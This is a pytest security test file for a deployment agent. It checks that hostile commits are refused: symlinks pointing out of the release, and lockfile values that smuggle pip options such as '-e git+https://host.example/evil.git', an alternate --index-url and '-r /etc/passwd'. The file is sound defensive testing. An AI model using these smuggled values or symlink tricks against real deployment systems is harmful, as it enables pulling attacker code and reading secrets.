"""Repository content is data: a commit's links never make live-pull read, move or
replace anything outside its release, lockfile values never become installer input
unchecked, and /status carries a short reason only."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from entrypoint.errors import InstallError
from entrypoint.files import OutsideRoot, read_inside, resolve_inside
from entrypoint.lockfiles import pipfile_pins
from entrypoint.sample import SampleRepo, app_files, create_sample_repo
from tests.conftest import AgentProcess, wait_until

Factory = Callable[..., AgentProcess]
TOKEN = "ghs_hostileCommitToken0123456789"


def _link(sample: SampleRepo, name: str, target: Path | str) -> None:
    path = sample.work / name
    if path.is_dir() and not path.is_symlink():
        for child in sorted(path.rglob("*"), reverse=True):
            child.unlink() if not child.is_dir() else child.rmdir()
        path.rmdir()
    elif path.exists() or path.is_symlink():
        path.unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


def _refused(agent: AgentProcess, sha: str, good: str) -> str:
    """The revision is recorded failed, the good one still serves; return the reason."""
    reason = wait_until(
        lambda: (agent.status().get("failed_revisions") or {}).get(sha),
        60,
        lambda: agent.output()[-3000:],
    )
    status = agent.status()
    assert status["revision"] == good
    assert f"revision {good[:12]}" in (agent.app() or "")
    shown = json.dumps(status)
    assert TOKEN not in shown and len(str(status["last_error"])) <= 300
    assert TOKEN not in (agent.home / "state.json").read_text()
    return str(reason)


def _fingerprint(path: Path) -> tuple[int, int, str]:
    info = os.lstat(path)
    return info.st_ino, info.st_mtime_ns, path.read_text()


def test_links_out_of_the_release_are_refused(
    sample: SampleRepo, agent_factory: Factory, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    token = outside / "token"
    token.write_text(TOKEN + "\n")
    shadow = outside / "shadow"
    marker = tmp_path / "pwned"
    shadow.write_text(f"web: touch {marker}; python app.py\n")
    good = sample.commit({**app_files("good"), "data/db.sqlite3": "seed\n"}, "good")
    agent = agent_factory(
        sample.url, LIVE_PULL_SHARED_PATHS="data/db.sqlite3", LIVE_PULL_MAX_REVISION_MB="1"
    )
    agent.wait_serving(good)
    database = agent.home / "shared" / "data" / "db.sqlite3"
    database.write_text("real data\n")
    before = {path: _fingerprint(path) for path in (token, shadow, database)}

    _link(sample, "requirements.txt", token)
    bad = sample.commit({}, "requirements.txt is the token")
    assert "requirements.txt leads outside the release" in _refused(agent, bad, good)
    (sample.work / "requirements.txt").unlink()

    _link(sample, "Procfile", shadow)
    bad = sample.commit({}, "the Procfile is a file outside")
    assert "Procfile refused" in _refused(agent, bad, good)
    (sample.work / "Procfile").unlink()

    _link(sample, "data", "../../shared/data")  # the shared path's parent is a link
    bad = sample.commit(app_files("linked parent"), "a shared path's parent is a link")
    assert "data is a symbolic link in the commit" in _refused(agent, bad, good)
    _link(sample, "data", outside)
    bad = sample.commit({}, "the shared path's parent leads outside")
    assert "symbolic link" in _refused(agent, bad, good)
    (sample.work / "data").unlink()

    bad = sample.commit({"big.bin": "x" * (2 * 1024 * 1024)}, "larger than allowed")
    assert "LIVE_PULL_MAX_REVISION_MB=1" in _refused(agent, bad, good)

    assert not marker.exists()
    assert {path: _fingerprint(path) for path in before} == before
    assert database.read_text() == "real data\n" and not database.is_symlink()


def test_first_shared_path_that_is_a_link_moves_nothing_in(
    agent_factory: Factory, tmp_path: Path
) -> None:
    sample = create_sample_repo(tmp_path / "remote")
    outside = tmp_path / "private.key"
    outside.write_text("do not move me\n")
    before = _fingerprint(outside)
    _link(sample, "key.pem", outside)
    bad = sample.commit({}, "a first-time shared path that is a link")
    agent = agent_factory(sample.url, LIVE_PULL_SHARED_PATHS="key.pem")
    reason = wait_until(
        lambda: (agent.status().get("failed_revisions") or {}).get(bad),
        60,
        lambda: agent.output()[-3000:],
    )
    assert "key.pem is a symbolic link in the commit" in reason
    assert _fingerprint(outside) == before
    assert not (agent.home / "shared" / "key.pem").exists()


def test_an_app_dir_that_leads_outside_is_refused(agent_factory: Factory, tmp_path: Path) -> None:
    sample = create_sample_repo(tmp_path / "remote")
    files = {f"app/{name}": text for name, text in app_files("in app dir").items()}
    good = sample.commit(files, "the app in app/")
    agent = agent_factory(sample.url, LIVE_PULL_APP_DIR="app")
    agent.wait_serving(good)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    for name, text in app_files("outside the release").items():
        (elsewhere / name).write_text(text)
    _link(sample, "app", elsewhere)
    bad = sample.commit({}, "app/ is a link out")
    assert "LIVE_PULL_APP_DIR 'app' refused" in _refused(agent, bad, good)


def test_paths_resolve_inside_or_are_refused(tmp_path: Path) -> None:
    root = tmp_path / "release"
    (root / "requirements").mkdir(parents=True)
    (root / "requirements" / "base.txt").write_text("tinypkg==1.0\n")
    (root / "requirements.txt").symlink_to("requirements/base.txt")  # inside: fine
    (root / "escape").symlink_to(tmp_path)
    (tmp_path / "secret").write_text(TOKEN)
    assert read_inside(root, root / "requirements.txt") == "tinypkg==1.0\n"
    for path in (root / "escape" / "secret", root / ".." / "secret", root / "escape"):
        with pytest.raises(OutsideRoot, match="leads outside the release"):
            resolve_inside(root, path)


@pytest.mark.parametrize(
    "entry",
    [
        {"version": "==1.0\n-e git+https://host.example/evil.git#egg=evil"},
        {"version": "==1.0", "hashes": ["sha256:abc --index-url https://host.example"]},
        {"version": "==1.0", "markers": "python_version >= '3'\n-r /etc/passwd"},
        {"version": "==not a version"},
        {"version": "==1.0", "hashes": ["sha256:" + "0" * 32]},  # too short for sha256
        {"version": "==1.0", "hashes": ["md5:" + "0" * 32]},
    ],
)
def test_lockfile_values_are_checked_before_they_become_requirements(
    tmp_path: Path, entry: dict[str, object]
) -> None:
    lock = tmp_path / "Pipfile.lock"
    lock.write_text(json.dumps({"default": {"tinypkg": entry}}))
    with pytest.raises(InstallError, match="lockfile entry 'tinypkg' refused"):
        pipfile_pins(lock)
    lock.write_text(json.dumps({"default": {"bad\nname": {"version": "==1.0"}}}))
    with pytest.raises(InstallError, match="not a package name"):
        pipfile_pins(lock)


def test_project_files_that_lead_outside_or_are_malformed_are_refused(
    sample: SampleRepo, agent_factory: Factory, tmp_path: Path, wheelhouse: Path
) -> None:
    """What #11 reads from a revision (`.python-version`, a project's pyproject.toml, a
    workspace lock's local packages, a lock's shape) is data too: each bad one refuses
    the revision with one line, and the agent goes on to the next commit."""
    outside = tmp_path / "outside"
    outside.mkdir()
    token = outside / "token"
    token.write_text(TOKEN + "\n")
    good = sample.commit(app_files("good"), "good")
    agent = agent_factory(
        sample.url, LIVE_PULL_INSTALL_ARGS=f"--no-index --find-links {wheelhouse}"
    )
    agent.wait_serving(good)

    _link(sample, ".python-version", token)
    bad = sample.commit({"requirements.txt": "tinypkg==1.0\n"}, ".python-version is the token")
    assert ".python-version refused: .python-version leads outside" in _refused(agent, bad, good)
    (sample.work / ".python-version").unlink()

    _link(sample, "lib/pyproject.toml", token)
    bad = sample.commit({"requirements.txt": "-e ./lib\n"}, "a local project's pyproject")
    assert "leads outside the release" in _refused(agent, bad, good)
    (sample.work / "lib" / "pyproject.toml").unlink()

    pyproject = '[project]\nname = "app"\nversion = "0"\ndependencies = []\n'
    escaping = (
        'version = 1\n[[package]]\nname = "app"\nversion = "0"\n'
        'source = { editable = "../../.." }\n'
    )
    bad = sample.commit({"pyproject.toml": pyproject, "uv.lock": escaping}, "a lock that escapes")
    assert "uv.lock local package refused" in _refused(agent, bad, good)

    bad = sample.commit({"uv.lock": 'version = 1\n[[package]]\nversion = "0"\n'}, "no name")
    assert _refused(agent, bad, good).startswith("lockfile not understood (KeyError")
    for name in ("uv.lock", "pyproject.toml", "requirements.txt"):
        (sample.work / name).unlink()
    fixed = sample.commit(app_files("fixed"), "fixed")
    agent.wait_serving(fixed)
